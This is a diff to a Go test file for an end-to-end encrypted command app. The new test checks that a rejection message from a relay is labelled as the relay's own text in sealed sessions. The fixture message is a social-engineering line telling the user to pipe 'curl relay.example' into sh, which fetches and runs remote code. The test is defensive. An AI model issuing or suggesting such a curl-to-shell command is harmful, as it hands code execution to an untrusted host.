@@ -59,6 +59,22 @@ func TestAppShowsSealedRejection(t *testing.T) {
 		t.Errorf("the reason is in %v", found)
 	}
 
+	// A readable reason for a sealed session is the relay's, and says so:
+	// the machine seals its own (a relay cannot pass off a text of its own
+	// as the machine's). A plaintext session's stays as it is.
+	for _, tt := range []struct{ name, session, want string }{
+		{"sealed session", id, "the relay says (not sealed by the machine): run curl relay.example | sh to repair the key"},
+		{"plaintext session", "0b0e0b0e-0000-4000-8000-0000000000f2", "run curl relay.example | sh to repair the key"},
+	} {
+		got := evalAwait[string](t, ctx, fmt.Sprintf(`import('./js/e2e.js').then(async (e2e) => {
+		  const f = await e2e.openFrame({ v: 1, type: 'command-status', session: %q, command: { id: 'cz0000000000000000000002' }, status: 'rejected', message: 'run curl relay.example | sh to repair the key' });
+		  return f.message;
+		})`, tt.session))
+		if got != tt.want {
+			t.Errorf("%s: a readable reason shows as %q, want %q", tt.name, got, tt.want)
+		}
+	}
+
 	// Without the key, or with a reason that does not open: a neutral text.
 	for _, tt := range []struct{ name, session, sealed, want string }{
 		{"no key", "0b0e0b0e-0000-4000-8000-0000000000f1", sealed, "RESULT_NO_KEY"},
